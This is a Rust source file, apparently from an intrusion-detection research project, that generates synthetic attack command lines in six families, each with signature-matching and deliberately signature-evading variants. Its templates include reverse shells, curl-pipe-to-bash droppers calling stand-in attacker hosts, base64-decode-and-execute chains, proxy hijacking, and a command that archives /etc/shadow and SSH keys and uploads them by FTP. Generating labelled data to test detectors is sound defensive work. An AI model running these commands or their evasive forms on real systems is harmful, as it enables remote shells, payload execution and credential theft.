@@ -1,0 +1,320 @@
+//! Attack-sample synthesis mirroring the paper's Table III.
+//!
+//! Each family has **in-box** variants — the exact signatures a
+//! commercial rule-based IDS catches — and **out-of-box** variants that
+//! are functionally equivalent but evade brittle signatures by switching
+//! flags (`nc -lvnp` → `nc -ulp`), interpreters (`java` → `python3`),
+//! argument schemes (`http://` → `socks5://`) or by wrapping the tool in
+//! a script (`masscan …` → `sh /root/masscan.sh …`). This reproduces the
+//! in-box/out-of-box evaluation structure of Section V.
+
+use rand::seq::SliceRandom;
+use rand::Rng;
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// The attack families used across the evaluation.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum AttackFamily {
+    /// Bind/reverse shells (`nc -lvnp`, `bash -i >& /dev/tcp/...`).
+    ReverseShell,
+    /// Port scanning (`masscan`, `nmap`).
+    PortScan,
+    /// Base64-decode-and-execute chains.
+    Base64Exec,
+    /// Proxy environment hijacking (`export https_proxy=...`).
+    ProxyHijack,
+    /// Download-and-execute droppers (`curl ... | bash`).
+    DownloadExec,
+    /// Credential/secret exfiltration (`cat /etc/shadow`, …).
+    CredentialTheft,
+}
+
+impl AttackFamily {
+    /// All families.
+    pub const ALL: [AttackFamily; 6] = [
+        AttackFamily::ReverseShell,
+        AttackFamily::PortScan,
+        AttackFamily::Base64Exec,
+        AttackFamily::ProxyHijack,
+        AttackFamily::DownloadExec,
+        AttackFamily::CredentialTheft,
+    ];
+}
+
+impl fmt::Display for AttackFamily {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let s = match self {
+            AttackFamily::ReverseShell => "reverse-shell",
+            AttackFamily::PortScan => "port-scan",
+            AttackFamily::Base64Exec => "base64-exec",
+            AttackFamily::ProxyHijack => "proxy-hijack",
+            AttackFamily::DownloadExec => "download-exec",
+            AttackFamily::CredentialTheft => "credential-theft",
+        };
+        f.write_str(s)
+    }
+}
+
+/// Whether a sample matches the commercial IDS's signatures.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum Variant {
+    /// Caught by the supervision source's rules.
+    InBox,
+    /// Functionally equivalent but evades the rules.
+    OutOfBox,
+}
+
+/// One generated attack: one or more temporally adjacent command lines.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct AttackSample {
+    /// The command lines, in execution order (usually one; droppers two).
+    pub lines: Vec<String>,
+    /// Attack family.
+    pub family: AttackFamily,
+    /// In-box or out-of-box with respect to the rule IDS.
+    pub variant: Variant,
+}
+
+/// Synthesizes attack samples with randomized targets and payloads.
+#[derive(Debug, Clone, Default)]
+pub struct AttackGenerator;
+
+fn ip<R: Rng + ?Sized>(rng: &mut R) -> String {
+    format!(
+        "{}.{}.{}.{}",
+        rng.gen_range(1..224),
+        rng.gen_range(0..256),
+        rng.gen_range(0..256),
+        rng.gen_range(1..255)
+    )
+}
+
+fn port<R: Rng + ?Sized>(rng: &mut R) -> u16 {
+    *[4242, 9001, 1337, 8443, 4444, 5555, 31337, 2222]
+        .choose(rng)
+        .expect("non-empty")
+}
+
+fn b64ish<R: Rng + ?Sized>(rng: &mut R) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let len = rng.gen_range(16..40) & !3;
+    let mut s: String = (0..len)
+        .map(|_| *ALPHABET.choose(rng).expect("non-empty") as char)
+        .collect();
+    s.push('=');
+    s
+}
+
+fn evil_host<R: Rng + ?Sized>(rng: &mut R) -> String {
+    [
+        "185.220.10.5",
+        "evil.example.net",
+        "update-cdn.xyz",
+        "91.134.8.77",
+        "files.dropzone.cc",
+    ]
+    .choose(rng)
+    .expect("non-empty")
+    .to_string()
+}
+
+impl AttackGenerator {
+    /// Creates a generator.
+    pub fn new() -> Self {
+        AttackGenerator
+    }
+
+    /// Generates one sample of the given family and variant.
+    pub fn generate<R: Rng + ?Sized>(
+        &self,
+        rng: &mut R,
+        family: AttackFamily,
+        variant: Variant,
+    ) -> AttackSample {
+        let lines = match (family, variant) {
+            (AttackFamily::ReverseShell, Variant::InBox) => match rng.gen_range(0..3) {
+                0 => vec![format!("nc -lvnp {}", port(rng))],
+                1 => vec![format!("bash -i >& /dev/tcp/{}/{} 0>&1", ip(rng), port(rng))],
+                _ => vec![format!(
+                    "nc -e /bin/sh {} {}",
+                    ip(rng),
+                    port(rng)
+                )],
+            },
+            (AttackFamily::ReverseShell, Variant::OutOfBox) => match rng.gen_range(0..3) {
+                // Table III: `nc -ulp *` is functionally close to
+                // `nc -lvnp *` yet missed by the signature.
+                0 => vec![format!("nc -ulp {}", port(rng))],
+                1 => vec![format!(
+                    "socat TCP:{}:{} EXEC:/bin/sh",
+                    ip(rng),
+                    port(rng)
+                )],
+                _ => vec![format!(
+                    "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"{}\",{}));pty.spawn(\"/bin/sh\")'",
+                    ip(rng),
+                    port(rng)
+                )],
+            },
+            (AttackFamily::PortScan, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec![format!(
+                    "masscan {} -p 0-65535 --rate=1000 >> tmp.txt",
+                    ip(rng)
+                )],
+                _ => vec![format!("nmap -sS -p- {}", ip(rng))],
+            },
+            (AttackFamily::PortScan, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                // Table III: the scan wrapped in a shell script.
+                0 => vec![format!("sh /root/masscan.sh {} -p 0-65535", ip(rng))],
+                _ => vec![format!(
+                    "bash scan_all.sh {} 1-65535",
+                    ip(rng)
+                )],
+            },
+            (AttackFamily::Base64Exec, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec![format!("echo {} | base64 -d | bash -i", b64ish(rng))],
+                _ => vec![format!(
+                    "java -jar tmp.jar -C \"bash -c {{echo,{}}} {{base64,-d}} {{bash,-i}}\"",
+                    b64ish(rng)
+                )],
+            },
+            (AttackFamily::Base64Exec, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                // Table III: same chain camouflaged under python3.
+                0 => vec![format!(
+                    "python3 tmp.py -p \"bash -c {{echo,{}}} {{base64,-d}} {{bash,-i}}\"",
+                    b64ish(rng)
+                )],
+                _ => vec![format!("printf {} | openssl base64 -d | sh", b64ish(rng))],
+            },
+            (AttackFamily::ProxyHijack, Variant::InBox) => vec![format!(
+                "export https_proxy=\"http://{}:{}\"",
+                ip(rng),
+                port(rng)
+            )],
+            (AttackFamily::ProxyHijack, Variant::OutOfBox) => vec![format!(
+                // Table III: scheme switch evades the `http://` signature.
+                "export https_proxy=\"socks5://{}:{}\"",
+                ip(rng),
+                port(rng)
+            )],
+            (AttackFamily::DownloadExec, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec![format!("curl http://{}/x.sh | bash", evil_host(rng))],
+                _ => vec![format!("wget -q http://{}/x.sh -O- | sh", evil_host(rng))],
+            },
+            (AttackFamily::DownloadExec, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                // Section IV-C's motivating pair: download renamed to
+                // `python`, then execute — two innocuous-looking lines.
+                0 => vec![
+                    format!("wget -c http://{}/payload -o python", evil_host(rng)),
+                    "python".to_string(),
+                ],
+                _ => vec![format!(
+                    "curl -fsSL https://{}/loader | python3 -",
+                    evil_host(rng)
+                )],
+            },
+            (AttackFamily::CredentialTheft, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec!["cat /etc/shadow".to_string()],
+                _ => vec!["cat /root/.ssh/id_rsa".to_string()],
+            },
+            (AttackFamily::CredentialTheft, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                0 => vec![format!(
+                    "tar czf /tmp/.cache.tgz /etc/shadow /root/.ssh && curl -T /tmp/.cache.tgz ftp://{}/up/",
+                    evil_host(rng)
+                )],
+                _ => vec!["history | grep -i passw".to_string()],
+            },
+        };
+        AttackSample {
+            lines,
+            family,
+            variant,
+        }
+    }
+
+    /// Generates a random family; `p_out_of_box` controls the variant mix.
+    pub fn generate_random<R: Rng + ?Sized>(&self, rng: &mut R, p_out_of_box: f64) -> AttackSample {
+        let family = *AttackFamily::ALL.choose(rng).expect("non-empty");
+        let variant = if rng.gen_bool(p_out_of_box.clamp(0.0, 1.0)) {
+            Variant::OutOfBox
+        } else {
+            Variant::InBox
+        };
+        self.generate(rng, family, variant)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    #[test]
+    fn all_samples_parse() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(1);
+        for family in AttackFamily::ALL {
+            for variant in [Variant::InBox, Variant::OutOfBox] {
+                for _ in 0..30 {
+                    let s = g.generate(&mut rng, family, variant);
+                    assert!(!s.lines.is_empty());
+                    for line in &s.lines {
+                        assert!(
+                            shell_parser::classify(line).is_valid(),
+                            "attack must parse ({family}/{variant:?}): {line}"
+                        );
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn samples_are_randomized() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(2);
+        let a = g.generate(&mut rng, AttackFamily::PortScan, Variant::InBox);
+        let mut distinct = false;
+        for _ in 0..20 {
+            let b = g.generate(&mut rng, AttackFamily::PortScan, Variant::InBox);
+            if b.lines != a.lines {
+                distinct = true;
+                break;
+            }
+        }
+        assert!(distinct, "targets should randomize");
+    }
+
+    #[test]
+    fn dropper_is_multi_line() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(3);
+        let mut saw_multi = false;
+        for _ in 0..50 {
+            let s = g.generate(&mut rng, AttackFamily::DownloadExec, Variant::OutOfBox);
+            if s.lines.len() == 2 {
+                assert_eq!(s.lines[1], "python");
+                saw_multi = true;
+            }
+        }
+        assert!(saw_multi, "the wget→python dropper should occur");
+    }
+
+    #[test]
+    fn random_mix_respects_probability() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(4);
+        let out = (0..2_000)
+            .filter(|_| g.generate_random(&mut rng, 0.3).variant == Variant::OutOfBox)
+            .count();
+        assert!((450..750).contains(&out), "out-of-box count {out}");
+    }
+
+    #[test]
+    fn family_display_is_kebab() {
+        assert_eq!(AttackFamily::ReverseShell.to_string(), "reverse-shell");
+        assert_eq!(AttackFamily::Base64Exec.to_string(), "base64-exec");
+    }
+}
